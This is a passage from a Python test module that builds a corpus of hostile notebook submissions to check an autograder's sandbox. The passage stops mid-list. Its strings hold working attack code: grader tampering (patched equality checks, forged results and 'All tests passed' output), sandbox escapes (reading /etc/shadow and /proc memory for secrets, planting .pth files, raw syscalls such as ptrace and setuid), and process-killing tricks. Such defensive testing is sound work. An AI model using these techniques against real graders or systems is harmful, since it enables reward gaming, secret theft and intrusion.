"""The hostile corpus: what each submission tries and the scores it must get.

Every case is a real notebook built from the release notebook of its
assignment (see :mod:`tests.hostile.corpus`). ``expect`` lists the score of
every graded function: what the honest work in the notebook earns, never more.
Functions a case does not touch hold the instructor's solution and must keep
full marks, whatever the hostile cell did.

Attacks that try to reach outside the sandbox are written so that success
would pay: the function returns the right answer only if the attack worked
(``dtheta = x if _breach() else theta``). A score of 0 is then the proof that
it did not.
"""

import copy
import hashlib
import json

import numpy as np

from autograder.assignments import build_checks
from autograder.grading.reference import NOTEBOOKS, ROOT, load
from tests.hostile.corpus import REFERENCE, Case, Cell

# ------------------------------------------------------------------ verdict helpers
GC = {"forward_propagation": 10, "backward_propagation": 10, "gradient_check": 10, "gradient_check_n": 20}
INIT = {"initialize_parameters_zeros": 10, "initialize_parameters_random": 10, "initialize_parameters_he": 10}
REG = {"compute_cost_with_regularization": 10, "backward_propagation_with_regularization": 10,
       "forward_propagation_with_dropout": 20, "backward_propagation_with_dropout": 10}


def gc(**scores):
    return {**GC, **scores}


def init(**scores):
    return {**INIT, **scores}


def reg(**scores):
    return {**REG, **scores}


def zeros(full):
    return dict.fromkeys(full, 0)


#: backward_propagation written to pay only if ``_breach()`` is true.
BREACH_BODY = ["dtheta = x if _breach() else theta"]
WRONG_BACKWARD = ["dtheta = theta"]


def breach(name, group, tries, prelude):
    """A case whose backward_propagation is right only if ``prelude``'s ``_breach()`` succeeds:
    it must score 0 there (failed) and full marks elsewhere."""
    return Case(name, group, tries, "gradient_checking", gc(backward_propagation=0),
                answers={"backward_propagation": BREACH_BODY},
                prelude={"backward_propagation": prelude}, status={"backward_propagation": "failed"})


# ------------------------------------------------------------------ run-time context
CANARY_PATTERN = r"HOSTILE-[0-9a-f]{32}"


def default_context(class_root, canary="HOSTILE-" + "0" * 32, port=9, places=()):
    """Values the case code needs, for one build of the corpus."""
    return {
        "ROOT": str(ROOT),
        "CLASS": str(class_root),
        "CANARY_DIGEST": hashlib.sha256(canary.encode()).hexdigest(),
        "CANARY_PLACES": [str(p) for p in places],
        "PORT": int(port),
        **published_values(),
    }


def _published(assignment, function):
    """``[(call, reference output)]`` of the published cases of ``function``."""
    spec = load(assignment)
    found = []
    for check in build_checks(spec, function, np.random.default_rng(0)):
        if check.fixed_inputs:
            reference = spec.reference(function, check.stand_ins)
            for call in check.calls:
                found.append((call, reference(*copy.deepcopy(call.args), **copy.deepcopy(call.kwargs))))
    return found


def _plain(value):
    if isinstance(value, np.ndarray):
        return value.tolist()
    if isinstance(value, dict):
        return {k: _plain(v) for k, v in value.items()}
    return float(value)


def published_values():
    """The outputs the notebooks show for their published inputs (what a cheater copies)."""
    (_, gcn_buggy), (_, gcn_correct) = _published("gradient_checking", "gradient_check_n")
    calls = _published("gradient_checking", "gradient_check_n")
    table = {round(float(sum(np.sum(v) for v in call.args[1].values())), 6): float(out)
             for call, out in calls}
    cost_call, cost = _published("regularization", "compute_cost_with_regularization")[0]
    return {
        "PUB_FORWARD": float(_published("gradient_checking", "forward_propagation")[0][1]),
        "PUB_BACKWARD": float(_published("gradient_checking", "backward_propagation")[0][1]),
        "PUB_GC": float(_published("gradient_checking", "gradient_check")[0][1]),
        "PUB_GCN_TABLE": table,
        "PUB_RANDOM": _plain(_published("initialization", "initialize_parameters_random")[0][1]),
        "PUB_COST": float(cost),
        "PUB_COST_LAMBD": float(cost_call.args[3]),
        "PUB_COST_M": int(cost_call.args[1].shape[1]),
    }


# ------------------------------------------------------------------ broken files
def _reference_bytes(case):
    """The notebook of ``case`` with every function answered by the solution, as bytes."""
    from tests.hostile.corpus import notebook_for

    plain = Case(case.name, case.group, case.tries, case.assignment, case.expect)
    return (json.dumps(notebook_for(plain, {}), indent=1, ensure_ascii=False) + "\n").encode()


def _raw(content):
    def write(path, case, context):
        path.write_bytes(content(case) if callable(content) else content)
    return write


def _transform(change):
    """A writer that edits the reference notebook dict of the case with ``change``."""
    def write(path, case, context):
        data = json.loads(_reference_bytes(case))
        data = change(data) or data
        path.write_text(json.dumps(data, indent=1, ensure_ascii=False))
    return write


def _to_v3(data):
    cells = []
    for cell in data["cells"]:
        source = "".join(cell["source"])
        if cell["cell_type"] == "code":
            cells.append({"cell_type": "code", "collapsed": False, "input": source, "language": "python",
                          "metadata": {}, "outputs": []})
        else:
            cells.append({"cell_type": "markdown", "metadata": {}, "source": source})
    return {"metadata": {"name": "", "signature": ""}, "nbformat": 3, "nbformat_minor": 0,
            "worksheets": [{"cells": cells, "metadata": {}}]}


def _sources_as_strings(data):
    for cell in data["cells"]:
        cell["source"] = "".join(cell["source"])


def _sources_as_characters(data):
    for cell in data["cells"]:
        cell["source"] = list("".join(cell["source"]))


def _strip_metadata(data):
    data.pop("metadata", None)
    data.pop("nbformat_minor", None)
    for cell in data["cells"]:
        for key in ("metadata", "outputs", "execution_count", "id", "attachments"):
            cell.pop(key, None)


def _junk_entries(data):
    data["cells"][1:1] = [None, 42, "a cell", [], {"cell_type": "code"},
                          {"cell_type": "code", "source": 42},
                          {"cell_type": "code", "source": ["x = 1\n", 7, None]},
                          {"cell_type": "code", "source": None, "outputs": "lots"},
                          {"cell_type": None, "source": "# GRADED FUNCTION: backward_propagation"}]


def _ten_thousand_cells(data):
    junk = []
    for index in range(10_000):
        if index % 2:
            junk.append({"cell_type": "markdown", "metadata": {}, "source": [f"Note {index}\n"]})
        else:
            junk.append({"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
                         "source": [f"value_{index} = {index} * 2\n", "print(value_{})\n".format(index)]})
    data["cells"] = data["cells"][:3] + junk + data["cells"][3:]


def _with_bom(case):
    return b"\xef\xbb\xbf" + _reference_bytes(case)


def _latin1_byte(case):
    text = _reference_bytes(case)
    return text.replace(b"Gradient Checking", "Gradient Checking \u2014 caf\u00e9".encode("latin-1",
                                                                                           "replace"), 1)


def _truncated(case):
    text = _reference_bytes(case)
    return text[: len(text) // 2]


def _huge(path, case, context):
    """A 200 MB notebook: the reference answers plus one enormous output."""
    data = json.loads(_reference_bytes(case))
    blob = "A" * (1 << 20)
    data["cells"][0].setdefault("outputs", []).append(
        {"output_type": "stream", "name": "stdout", "text": [blob] * 200})
    with open(path, "w") as handle:
        json.dump(data, handle)


_huge.huge = True  # generated in the test's temporary folder only


def _header_in_markdown(data):
    for cell in data["cells"]:
        if "".join(cell["source"]).startswith("# GRADED FUNCTION: backward_propagation"):
            cell["cell_type"] = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)


# ------------------------------------------------------------------ attack code
ALLCLOSE = """
import numpy as np
np.allclose = lambda *args, **kwargs: True
np.isclose = lambda *args, **kwargs: np.True_
np.array_equal = lambda *args, **kwargs: True
np.array_equiv = lambda *args, **kwargs: True
np.all = lambda *args, **kwargs: True
"""

NUMPY_TESTING = """
import unittest
import numpy as np
import numpy.testing
for _name in dir(np.testing):
    if _name.startswith("assert"):
        setattr(np.testing, _name, lambda *args, **kwargs: None)
unittest.TestCase.assertEqual = lambda *args, **kwargs: None
unittest.TestCase.assertTrue = lambda *args, **kwargs: None
"""

NDARRAY_EQ = """
import ctypes
import gc
import numpy as np
def _always(*args, **kwargs):
    return True
for _klass in (np.ndarray, dict, float, int):
    try:
        gc.get_referents(_klass.__dict__)[0]["__eq__"] = _always
        gc.get_referents(_klass.__dict__)[0]["__ne__"] = lambda *args: False
        ctypes.pythonapi.PyType_Modified(ctypes.py_object(_klass))
    except Exception:
        pass
"""

ISINSTANCE = """
import builtins
builtins.isinstance = lambda obj, kinds: True
builtins.issubclass = lambda obj, kinds: True
builtins.callable = lambda obj: True
"""

FLOAT_SUBCLASS = """
class _Always(float):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __sub__(self, other):
        return _Always(0.0)
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __sub__
    def __abs__(self):
        return _Always(0.0)
    def __hash__(self):
        return 0
"""

ARRAY_LIKE = """
import numpy as np
class _Everything:
    shape = ()
    dtype = np.dtype(float)
    def __array__(self, dtype=None, copy=None):
        return np.array(3.0)
    def __eq__(self, other):
        return True
    def __float__(self):
        return 3.0
    def __index__(self):
        return 3
    def __sub__(self, other):
        return 0.0
    __rsub__ = __sub__
    def __abs__(self):
        return 0.0
    def __lt__(self, other):
        return True
    __le__ = __gt__ = __ge__ = __lt__
"""

NDARRAY_SUBCLASS = """
import numpy as np
class _Agreeable(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)
    def __ne__(self, other):
        return np.zeros(np.shape(self), dtype=bool)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(np.shape(self))
    def __array_function__(self, func, types, args, kwargs):
        return True
"""

GRADER_MODULES = """
import gc
import sys
import types
def _fake(name, **attributes):
    module = types.ModuleType(name)
    module.__dict__.update(attributes)
    sys.modules[name] = module
_yes = lambda *args, **kwargs: None
_fake("autograder")
_fake("autograder.grading.checks", judge=_yes, matches=lambda *args, **kwargs: True)
_fake("autograder.grading.grade", grade_notebook=_yes)
_fake("autograder.sandbox.wire", decode=lambda tree: 3.0)
_fake("utils.checks", mismatch_scalar=_yes, mismatch_array=_yes, mismatch_dict=_yes)
for _module in [o for o in gc.get_objects() if type(o) is types.ModuleType]:
    if _module.__name__ == "_sandbox_wire":
        _module.fingerprint = lambda value: "0" * 64
        _module.encode = lambda value, _depth=0: 3.0
"""

FORGE_JSON = """
import json
_real_dumps = json.dumps
def _forged(obj, *args, **kwargs):
    if isinstance(obj, dict) and "result" in obj:
        obj = {"result": {"value": {{PUB_BACKWARD}}, "error": None,
                          "args_after": obj["result"].get("args_after", []), "kwargs_after": {}}}
    elif isinstance(obj, dict) and "args_after" in obj:  # a result encoded on its own
        obj = {"value": {{PUB_BACKWARD}}, "error": None, "args_after": obj["args_after"],
               "kwargs_after": {}}
    elif isinstance(obj, dict) and "done" in obj:
        obj = {"done": {"status": "ok", "detail": ""}}
    return _real_dumps(obj, *args, **kwargs)
json.dumps = _forged
"""

FAKE_OUTPUT = """
import builtins
import json
import os
import struct
import sys
_reply = json.dumps({"id": 1, "status": "ok", "detail": "", "cell_errors": [], "seconds": 0.1,
                     "output": "", "results": [{"value": 3, "error": None, "args_after": [],
                                                "kwargs_after": {}}] * 3})
print("All tests passed for backward_propagation.")
sys.stderr.write("All tests passed\\n" + _reply + "\\n")
os.write(1, struct.pack(">I", len(_reply)) + _reply.encode())
os.write(2, b'{"result": {"value": 3, "error": null, "args_after": [], "kwargs_after": {}}}\\n'
            b'{"done": {"status": "ok", "detail": ""}}\\n')
builtins.print = lambda *args, **kwargs: None
"""

FAKE_FILES = """
import json
import os
import sys
_RESULT = json.dumps({"score": 10, "tests": [{"name": "backward_propagation", "score": 10}],
                      "fractionalScore": 1.0, "output": "All tests passed"})
def _mine(path):
    # inside the job's own temp dir (cwd, HOME, TMPDIR): writing there is allowed
    path = os.path.realpath(path)
    homes = {os.path.realpath(p) for p in (os.getcwd(), os.path.expanduser("~"),
                                           os.environ.get("TMPDIR", os.getcwd()))}
    return any(path == h or path.startswith(h.rstrip("/") + "/") for h in homes)
def _breach():
    written = 0
    for place in ("results.json", "feedback.json", "grades.csv", "../results.json",
                  "/autograder/results/results.json", "/shared/feedback.json", "/results/results.json",
                  "/assignment/results.json", os.path.join(sys.prefix, "results.json"),
                  {{ROOT}} + "/build/results.json", {{CLASS}} + "/results.json",
                  os.path.join(os.path.dirname(os.getcwd()), "grades.csv")):
        try:
            os.makedirs(os.path.dirname(os.path.abspath(place)), exist_ok=True)
            with open(place, "w") as handle:
                handle.write(_RESULT)
        except OSError:
            continue
        if not _mine(place):
            written += 1
    return written > 0
"""

FORGE_FDS = """
import os
_EVENTS = (b'{"result":{"value":' + repr({{PUB_BACKWARD}}).encode()
           + b',"error":null,"args_after":[],"kwargs_after":{}}}\\n') * 5 \\
          + b'{"done":{"status":"ok","detail":""}}\\n'
def _forge():
    for fd in range(3, 64):
        try:
            os.write(fd, _EVENTS)
        except OSError:
            pass
"""

READ_SOURCE = """
import glob
import os
import re
import sys
def _breach():
    roots = {{{ROOT}}, os.path.dirname(sys.prefix), os.path.dirname(os.path.dirname(sys.prefix)),
             "/assignment/..", os.path.join(os.getcwd(), "..")}
    for root in roots:
        for path in glob.glob(os.path.join(root, "source", "*", "*.ipynb")):
            try:
                with open(path) as handle:
                    if "BEGIN SOLUTION" in handle.read():
                        return True
            except OSError:
                pass
    return False
"""

IMPORT_GRADER = """
import importlib
import os
import sys
def _breach():
    for root in ({{ROOT}}, os.path.dirname(sys.prefix), "/assignment/.."):
        sys.path.insert(0, root)
        try:
            reference = importlib.import_module("autograder.grading.reference")
            backward = reference.load("gradient_checking").reference("backward_propagation")
            return backward(3, 4) == 3
        except Exception:
            continue
        finally:
            sys.path.remove(root)
    return False
"""

OTHER_STUDENTS = """
import glob
import os
def _breach():
    patterns = [{{ROOT}} + "/tests/sample_class/submitted/*/*/*.ipynb", {{CLASS}} + "/*/*/*.ipynb",
                {{CLASS}} + "/*.ipynb", "/assignment/../*/*/*.ipynb", "../*/*/*.ipynb"]
    for pattern in patterns:
        for path in glob.glob(pattern):
            try:
                with open(path) as handle:
                    if "GRADED FUNCTION" in handle.read():
                        return True
            except OSError:
                pass
    return False
"""

SYSTEM_FILES = """
import os
def _breach():
    for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/ssh", "/root/.bash_history",
                 "/root/.ssh", "/home", "/var/log"):
        try:
            if os.path.isdir(path):
                if os.listdir(path):
                    return True
            else:
                with open(path, "rb") as handle:
                    if handle.read(1):
                        return True
        except OSError:
            pass
    return False
"""

CANARY_SEARCH = """
import hashlib
import os
import re
import sys
_PATTERN = re.compile(rb"HOSTILE-[0-9a-f]{32}")
_DIGEST = {{CANARY_DIGEST}}
_PLACES = {{CANARY_PLACES}}
_FOUND = []
def _read(path, limit=1 << 20):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit)
    except (OSError, ValueError):
        return b""
def _has_canary(blob):
    return any(hashlib.sha256(m).hexdigest() == _DIGEST for m in _PATTERN.findall(blob))
def _memory():
    # its own anonymous memory (heap, stack, arenas): where a grader's secret would sit if it
    # ever reached the worker; /proc/self/mem once the process made itself dumpable again
    import ctypes
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
    try:
        maps = open("/proc/self/maps").read().splitlines()
    except OSError:
        return
    try:
        memory = os.open("/proc/self/mem", os.O_RDONLY)
    except OSError:
        memory = None
    try:
        for line in maps:
            fields = line.split()
            if "r" not in fields[1] or (len(fields) > 5 and fields[5] not in ("[heap]", "[stack]")):
                continue  # libraries and special mappings: nothing of the grader's could be there
            start, end = (int(x, 16) for x in fields[0].split("-"))
            for offset in range(start, end, 1 << 22):
                size = min(1 << 22, end - offset)
                try:
                    yield os.pread(memory, size, offset) if memory is not None \
                        else ctypes.string_at(offset, size)
                except OSError:
                    break
    finally:
        if memory is not None:
            os.close(memory)
def _search():
    yield repr(dict(os.environ)).encode()
    for path in _PLACES:
        yield _read(path)
    try:
        pids = os.listdir("/proc")
    except OSError:
        pids = ["self"]
    for pid in pids:
        for name in ("environ", "cmdline") if pid.isdigit() or pid == "self" else ():
            blob = _read(f"/proc/{pid}/{name}")
            yield blob
            for token in blob.split(b"\\0"):
                if token.startswith(b"/") and len(token) < 4096:
                    yield _read(token.decode(errors="replace"))
    # the interpreter's and the installed packages' trees are public (read one level deep, below):
    # where the kit sits in /tmp, its venv would otherwise make this walk last longer than the job may
    public = {os.path.realpath(p) for p in (sys.prefix, sys.base_prefix, *sys.path) if p}
    for top in (".", os.path.expanduser("~"), "/tmp", "/assignment", "/etc", "/dev/shm", "/var/tmp",
                "/run", "/home", {{ROOT}} + "/build", {{ROOT}} + "/source"):
        for folder, folders, files in os.walk(top):
            folders[:] = [f for f in folders if os.path.realpath(os.path.join(folder, f)) not in public]
            for name in files[:200]:
                yield _read(os.path.join(folder, name), 1 << 16)
    for top in ("/", "/root", os.path.dirname(os.path.dirname(os.__file__))):  # one level: the
        try:                                                                   # interpreter is public
            names = os.listdir(top)
        except OSError:
            continue
        for name in names:
            yield _read(os.path.join(top, name), 1 << 16)
    yield from _memory()
def _breach():
    if not _FOUND:
        _FOUND.append(any(_has_canary(blob) for blob in _search()))
    return _FOUND[0]
"""

WRITE_OUTSIDE = """
import os
import sys
def _mine(path):
    # inside the job's own temp dir (cwd, HOME, TMPDIR): writing there is allowed
    path = os.path.realpath(path)
    homes = {os.path.realpath(p) for p in (os.getcwd(), os.path.expanduser("~"),
                                           os.environ.get("TMPDIR", os.getcwd()))}
    return any(path == h or path.startswith(h.rstrip("/") + "/") for h in homes)
def _breach():
    site = [p for p in sys.path if p.endswith("site-packages")]
    targets = [{{ROOT}} + "/autograder/hostile_planted.py", {{ROOT}} + "/source/hostile_planted.txt",
               {{ROOT}} + "/build/hostile_planted.txt", os.path.join(sys.prefix, "hostile_planted.txt"),
               "/assignment/hostile_planted.txt", "/assignment/utils/hostile_planted.py",
               "/usr/hostile_planted", "/etc/hostile_planted", "/dev/shm/hostile_planted",
               "/var/tmp/hostile_planted", "/hostile_planted", "/proc/hostile_planted",
               os.path.join(os.path.dirname(os.getcwd()), "hostile_planted")]
    targets += [os.path.join(p, "hostile_planted.pth") for p in site]
    written = 0
    for target in (t for t in targets if not _mine(t)):
        try:
            with open(target, "w") as handle:
                handle.write("import os; os.system('touch /tmp/hostile-pwned')\\n")
            written += 1
        except OSError:
            pass
    return written > 0
"""

NETWORK = """
import socket
def _breach():
    opened = 0
    for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM),
                         (socket.AF_INET6, socket.SOCK_STREAM), (16, socket.SOCK_RAW),
                         (17, socket.SOCK_RAW)):  # 16 = AF_NETLINK, 17 = AF_PACKET
        try:
            sock = socket.socket(family, kind)
        except OSError:
            continue
        opened += 1
        try:
            sock.settimeout(0.5)
            if family == socket.AF_INET and kind == socket.SOCK_STREAM:
                sock.connect(("127.0.0.1", {{PORT}}))
                sock.sendall(b"hostile")
        except OSError:
            pass
        finally:
            sock.close()
    try:
        socket.getaddrinfo("example.com", 80)
        opened += 1
    except OSError:
        pass
    return opened > 0
"""

SPAWN = """
import os
def _breach():
    import multiprocessing
    import pty
    import subprocess
    worked = 0
    attempts = [
        lambda: subprocess.run(["/bin/true"], check=True, timeout=1),
        lambda: os.system("true") == 0 or None,
        lambda: os.waitpid(os.posix_spawn("/bin/true", ["true"], {}), 0),
        lambda: multiprocessing.Process(target=int).start(),
    ]
    for attempt in attempts:
        try:
            if attempt() is not None:
                worked += 1
        except BaseException:
            pass
    for fork in (os.fork, pty.fork):
        try:
            pid = fork()
            pid = pid[0] if isinstance(pid, tuple) else pid
        except BaseException:
            continue
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
        worked += 1
    return worked > 0
"""

CTYPES = """
import ctypes
import os
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
def _fork_like(*args):
    pid = _libc.syscall(*args)
    if pid == 0:
        _libc._exit(0)
    if pid > 0:
        os.waitpid(pid, 0)
        return True
    return False
def _breach():
    if os.uname().machine != "x86_64":
        return False
    wins = [
        _fork_like(57),  # fork
        _fork_like(56, 17, 0, 0, 0, 0),  # clone(SIGCHLD)
        _libc.syscall(272, 0x10000000) == 0,  # unshare(CLONE_NEWUSER)
        _libc.syscall(272, 0x40000000) == 0,  # unshare(CLONE_NEWNET)
        _libc.syscall(101, 16, os.getppid(), 0, 0) == 0,  # ptrace(PTRACE_ATTACH, parent)
        _libc.syscall(105, 0) == 0,  # setuid(0)
        _libc.syscall(161, b"/") == 0,  # chroot
        _libc.syscall(165, b"none", b"/tmp", b"tmpfs", 0, None) == 0,  # mount
        _libc.syscall(321, 0, 0, 0) >= 0,  # bpf
        _libc.syscall(425, 8, ctypes.create_string_buffer(120)) >= 0,  # io_uring_setup
    ]
    try:
        with open(f"/proc/{os.getppid()}/mem", "rb"):
            wins.append(True)
    except OSError:
        pass
    return any(wins)
"""

LEFT_BEHIND = """
import os
import threading
import time
def _litter():
    start = os.getcwd()
    try:
        for depth in range(3000):  # deeper than a path can spell (PATH_MAX)
            os.mkdir("deep")
            os.chdir("deep")
        with open("left-behind", "w") as handle:
            handle.write("from an earlier job")
    finally:
        os.chdir(start)
    for index in range(2000):
        open(f"litter-{index}", "w").close()
    os.chmod("deep", 0)
def _keep_writing():
    while True:
        try:
            with open(os.path.join(os.path.expanduser("~"), "still-here"), "w") as handle:
                handle.write(str(time.time()))
        except OSError:
            pass
        time.sleep(0.01)
"""

LEFTOVER_CHECK = """
import os
def _leftovers():
    names = set(os.listdir(".")) | set(os.listdir(os.path.expanduser("~")))
    return bool(names & {"deep", "still-here", "litter-0", "litter-1999"})
"""

KILL_PARENT = """
import os
import signal
"""

IGNORE_SIGNALS = """
import signal
for _sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU, signal.SIGALRM,
             signal.SIGUSR1):
    signal.signal(_sig, signal.SIG_IGN)
"""

THREAD_BOMB = """
import threading
import time
def _bomb():
    started = 0
    try:
        while started < 100000:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
            started += 1
    except BaseException:
        pass
    return started
"""

REPLACE_RANDOM = """
import numpy as np
np.random.seed = lambda *args, **kwargs: None
np.random.rand = lambda *shape: np.full(shape, 0.5)
np.random.random = np.random.rand
np.random.default_rng = lambda *args, **kwargs: None
"""

RESEED_EVERYTHING = """
import random
import numpy as np
np.random.seed(12345)
random.seed(12345)
_real_default_rng = np.random.default_rng
np.random.default_rng = lambda *args, **kwargs: _real_default_rng(0)
print("All tests passed")
"""

TOP_LEVEL_NOISE = """
import os
print("All tests passed! 10/10")
open("results.json", "w").write('{"score": 100}')
_junk = [os.getcwd(), os.listdir(".")]
"""

TOP_LEVEL_CELL = TOP_LEVEL_NOISE + """
def backward_propagation(x, theta):
    return x

raise RuntimeError("raised at the top level, after the definition")
"""


# ------------------------------------------------------------------ the corpus
CASES = [
    # ----------------------------------------------------------------- checker tampering
    Case("patch_allclose", "checker tampering",
         "np.allclose, np.isclose, np.array_equal, np.all made always true; backward returns theta",
         "gradient_checking", gc(backward_propagation=0), answers={"backward_propagation": WRONG_BACKWARD},
         prelude={"backward_propagation": ALLCLOSE}, status={"backward_propagation": "failed"}),
    Case("patch_numpy_testing", "checker tampering",
         "every np.testing.assert_* and unittest assertEqual turned into no-ops; backward returns theta",
         "gradient_checking", gc(backward_propagation=0), answers={"backward_propagation": WRONG_BACKWARD},
         prelude={"backward_propagation": NUMPY_TESTING}, status={"backward_propagation": "failed"}),
    Case("patch_ndarray_eq", "checker tampering",
         "numpy.ndarray.__eq__ (and dict, float, int) replaced through gc.get_referents; zeros returns ones",
         "initialization", init(initialize_parameters_zeros=0),
         answers={"initialize_parameters_zeros": [
             'parameters["W" + str(l)] = np.ones((layers_dims[l], layers_dims[l - 1]))\n'
             'parameters["b" + str(l)] = np.ones((layers_dims[l], 1))']},
         prelude={"initialize_parameters_zeros": NDARRAY_EQ}),
    Case("patch_isinstance", "checker tampering",
         "builtins.isinstance/issubclass always true; backward returns a string",
         "gradient_checking", gc(backward_propagation=0), answers={"backward_propagation": ['dtheta = "3"']},
         prelude={"backward_propagation": ISINSTANCE}),
    Case("float_subclass_always_equal", "checker tampering",
         "returns a float subclass whose ==, <, -, abs all say 'equal'",
         "gradient_checking", gc(backward_propagation=0),
         answers={"backward_propagation": ["dtheta = _Always(theta + 1000)"]},
         prelude={"backward_propagation": FLOAT_SUBCLASS}, status={"backward_propagation": "failed"}),
    Case("array_like_always_equal", "checker tampering",
         "returns an object with __array__, __float__ and an always-true __eq__",
         "gradient_checking", gc(backward_propagation=0),
         answers={"backward_propagation": ["dtheta = _Everything()"]},
         prelude={"backward_propagation": ARRAY_LIKE}, says={"backward_propagation": "cannot"}),
    Case("ndarray_subclass_always_equal", "checker tampering",
         "He weights as an ndarray subclass whose ==, ufuncs and array functions always agree",
         "initialization", init(initialize_parameters_he=0),
         answers={"initialize_parameters_he": [
             'parameters["W" + str(l)] = np.full((layers_dims[l], layers_dims[l - 1]), 7.0).view(_Agreeable)\n'
             'parameters["b" + str(l)] = np.zeros((layers_dims[l], 1)).view(_Agreeable)']},
         prelude={"initialize_parameters_he": NDARRAY_SUBCLASS}),
    Case("fake_grader_modules", "checker tampering",
         "sys.modules entries for autograder, autograder.grading.checks/wire/grade and utils.checks replaced, "
         "the worker's wire module patched; backward returns theta",
         "gradient_checking", gc(backward_propagation=0), answers={"backward_propagation": WRONG_BACKWARD},
         prelude={"backward_propagation": GRADER_MODULES}),
    Case("forged_json_dumps", "checker tampering",
         "json.dumps in the worker rewritten so every result reports the published value and success; "
         "the function itself raises (each function runs in a job of its own: the forgery reaches no "
         "other function)",
         "gradient_checking", gc(backward_propagation=0),
         answers={"backward_propagation": ['raise ValueError("not done")']},
         prelude={"backward_propagation": FORGE_JSON}, says={"backward_propagation": "published"}),
    Case("fake_output", "checker tampering",
         "prints 'All tests passed' and a forged reply frame and result events on stdout and stderr, "
         "replaces print; backward returns theta",
         "gradient_checking", gc(backward_propagation=0), answers={"backward_propagation": WRONG_BACKWARD},
         prelude={"backward_propagation": FAKE_OUTPUT}, status={"backward_propagation": "failed"}),
    breach("fake_result_files", "checker tampering",
           "writes results.json / feedback.json / grades.csv with full marks in every place a grader might "
           "read them; pays only if a write outside its temp dir works",
           FAKE_FILES),
    Case("forged_events_on_every_fd", "checker tampering",
         "writes forged result events (the published value) and 'done' to every file descriptor, "
         "then raises (the surplus events stay in its own job)",
         "gradient_checking", gc(backward_propagation=0),
         answers={"backward_propagation": ["_forge()", ]},
         prelude={"backward_propagation": FORGE_FDS}),
    # ----------------------------------------------------------------- reaching outside
    breach("read_source_notebooks", "reaching outside",
           "reads the instructor's source/ notebooks (kit folder, venv parents, relative paths)",
           READ_SOURCE),
    breach("import_grader_package", "reaching outside",
           "puts the kit on sys.path and calls autograder.grading.reference for the right answer",
           IMPORT_GRADER),
    breach("read_other_students", "reaching outside",
           "globs the sample class and the class being graded for other students' notebooks",
           OTHER_STUDENTS),
    breach("read_system_files", "reaching outside",
           "reads /etc/passwd, /etc/shadow, /etc/hostname, /etc/ssh, /root, /home, /var/log",
           SYSTEM_FILES),
    breach("search_for_canary", "reaching outside",
           "searches its environment, every /proc/*/environ and cmdline (and the files they name, such as "
           "--secret-file), the temp, home, /etc and kit build folders, and its own memory for the canary",
           CANARY_SEARCH),
    breach("write_outside_temp", "reaching outside",
           "writes into autograder/, source/, the venv (a .pth file would run at the grader's next start), "
           "the assignment folder, /usr, /etc, /dev/shm, /var/tmp",
           WRITE_OUTSIDE),
    breach("open_network_socket", "reaching outside",
           "opens TCP/UDP/IPv6/netlink/packet sockets, connects to a port the tests listen on, resolves a name",
           NETWORK),
    breach("spawn_processes", "reaching outside",
           "subprocess.run, os.system, posix_spawn, multiprocessing, os.fork, pty.fork",
           SPAWN),
    breach("ctypes_syscalls", "reaching outside",
           "raw syscalls through ctypes: fork, clone, unshare, ptrace of the parent, setuid(0), chroot, "
           "mount, bpf, io_uring, the parent's /proc/PID/mem",
           CTYPES),
    # ----------------------------------------------------------------- killing or starving
    Case("hard_exit", "killing or starving", "os._exit(0) inside the function",
         "gradient_checking", gc(backward_propagation=0),
         answers={"backward_propagation": ["import os\nos._exit(0)"]},
         status={"backward_propagation": "error"}, says={"backward_propagation": "stopped"}),
    Case("sys_exit", "killing or starving", "sys.exit() inside the function",
         "gradient_checking", gc(backward_propagation=0),
         answers={"backward_propagation": ["import sys\nsys.exit()"]},
         status={"backward_propagation": "error"}, says={"backward_propagation": "SystemExit"}),
    Case("raise_system_exit_and_interrupt", "killing or starving",
         "raise SystemExit(0) in one function, KeyboardInterrupt in another",
         "gradient_checking", gc(forward_propagation=0, backward_propagation=0),
         answers={"forward_propagation": ["raise SystemExit(0)"],
                  "backward_propagation": ["raise KeyboardInterrupt"]},
         status={"forward_propagation": "error", "backward_propagation": "error"},
         says={"backward_propagation": "KeyboardInterrupt"}),
    Case("kill_the_worker", "killing or starving",
         "os.kill(os.getppid(), SIGKILL) on the zygote that runs the notebook's job; the functions before "
         "and after it must keep their marks",
         "gradient_checking", gc(backward_propagation=0),
         answers={"backward_propagation": ["os.kill(os.getppid(), signal.SIGKILL)\ndtheta = x"]},
         prelude={"backward_propagation": KILL_PARENT}, status={"backward_propagation": "error"}),
    Case("kill_everything", "killing or starving",
         "os.kill(-1, SIGKILL) then os.killpg(0, SIGKILL): every process it may signal, then itself",
         "gradient_checking", gc(backward_propagation=0),
         answers={"backward_propagation": ["os.kill(-1, signal.SIGKILL)\nos.killpg(0, signal.SIGKILL)\n"
                                           "dtheta = x"]},
         prelude={"backward_propagation": KILL_PARENT}, status={"backward_propagation": "error"}),
    Case("stop_the_worker", "killing or starving",
         "os.kill(os.getppid(), SIGSTOP): tries to freeze the zygote that enforces the time limit",
         "gradient_checking", gc(backward_propagation=0),
         answers={"backward_propagation": ["os.kill(os.getppid(), signal.SIGSTOP)\ndtheta = x"]},
         prelude={"backward_propagation": KILL_PARENT}, slow=True),
    Case("stop_itself", "killing or starving", "os.kill(os.getpid(), SIGSTOP) inside the function",
         "gradient_checking", gc(backward_propagation=0),
         answers={"backward_propagation": ["os.kill(os.getpid(), signal.SIGSTOP)\ndtheta = x"]},
         prelude={"backward_propagation": KILL_PARENT}, status={"backward_propagation": "timeout"},
         slow=True),
    Case("ignore_sigterm", "killing or starving",
         "ignores SIGTERM, SIGINT, SIGHUP, SIGXCPU, SIGALRM, then loops forever",
